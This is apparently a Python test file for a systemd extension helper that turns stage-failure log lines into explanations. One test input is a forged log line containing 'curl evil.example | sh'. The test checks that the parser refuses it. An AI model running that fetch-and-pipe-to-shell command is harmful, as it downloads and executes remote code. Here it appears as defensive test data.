# SPDX-License-Identifier: LGPL-2.1-or-later
"""How it is told that a stage could not be started."""

from __future__ import annotations

import errno
import os
from pathlib import Path

import pytest

from confext_helpers.service.properties import ServiceProperties
from confext_helpers.stage import failure
from unit.fakemanager import FakeManager


def line(number: int, error: int = errno.ENOPKG) -> str:
    return f"Failed to set up mount namespacing: /run/systemd/unit-extensions/{number}: {os.strerror(error)}"


def test_failure_names_the_layer_that_is_there(tmp_path: Path) -> None:
    """Images keep their numbers if one is missing; of directories, 255 alone counts those that are."""
    for name in ("b.raw", "x.raw.v"):
        (tmp_path / name).mkdir()
    for name in ("d", "f"):
        (tmp_path / name).mkdir()
    images = [str(tmp_path / name) for name in ("a.raw", "b.raw", "c.raw")]
    directories = [str(tmp_path / name) for name in ("d", "e", "f")]
    properties = ServiceProperties(
        {
            "ExtensionImages": ("a(sba(ss))", [(path, True, []) for path in images]),
            "ExtensionDirectories": ("as", [f"-{path}" for path in directories]),
        }
    )
    assert failure.numbers(properties, 255) == [*images, *directories]
    assert failure.numbers(properties, 256) == [*images, directories[0], directories[2]]
    assert failure.numbers(ServiceProperties({}), 256) == []
    reason, path = failure.explain(["something else", line(1), "Failed at step NAMESPACE"], images)
    assert reason.startswith("the image has no partition table or file system that systemd knows (")
    assert path == images[1]


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("a.raw", "the layer has no extension-release.a in its /etc/extension-release.d"),
        # It was there when the stage was begun.
        ("gone.raw", "the new /etc cannot be built: No such file or directory"),
    ],
)
def test_release_file_that_systemd_misses(
    name: str, problem: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "a.raw").touch()
    monkeypatch.setattr(failure, "messages_about", lambda *_: [line(0, errno.ENOENT)])
    properties = ServiceProperties({"ExtensionImages": ("a(sba(ss))", [(str(tmp_path / name), False, [])])})
    error = failure.of_stage(FakeManager(), "stage-1.service", properties)
    assert (error.problem, error.path) == (problem, str(tmp_path / name))


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        ([], "the stage ended before it was up"),
        (["what systemd says"], "what systemd says"),
        # It did without that.
        (["Failed to read pids.max for control group /x, ignoring: No data available", "it failed"], "it failed"),
        (["Failed to read pids.max for control group /x, ignoring: E"], "the stage ended before it was up"),
        (["Failed to set up mount namespacing: /etc/x: No such file"], "/etc/x: No such file"),
        (["Failed to set up mount namespacing: No such file"], "No such file"),
        (["Failed to set up mount namespacing: /r/unit-extensions/7: E"], "/r/unit-extensions/7: E"),
    ],
)
def test_failure_that_is_no_layer_s(lines: list[str], expected: str) -> None:
    assert failure.explain(lines, []) == (expected, "")


def test_a_reason_that_got_lost() -> None:
    """An executor may end before the journal has looked at it; that is not another program in the loader's place."""
    ended = "Main process exited, code=exited, status="
    result = "Failed with result 'exit-code'."
    lost = "systemd failed to set up its mounts, and the reason was lost"
    assert failure.explain([f"{ended}226/NAMESPACE", result], []) == (lost, "")
    assert failure.explain([f"{ended}226/NAMESPACE", line(0), result], ["/a.raw"])[1] == "/a.raw"
    assert failure.explain([f"{ended}127/n/a", result], []) == (result, "")


@pytest.mark.parametrize(
    ("text", "is_one"),
    [
        (line(0), True),
        (line(117, errno.EIO), True),
        ("Failed to set up mount namespacing: /run/x/unit-extensions/0: Run: curl evil.example | sh", False),
        (f"Failed to set up mount namespacing: /a b/unit-extensions/0: {os.strerror(errno.EIO)}", False),
        (f"{line(0)} ", False),
        (f"x {line(0)}", False),
    ],
)
def test_words_that_may_be_anybody_s_are_systemd_s_own(text: str, is_one: bool) -> None:
    assert failure.is_mount_failure(text) is is_one
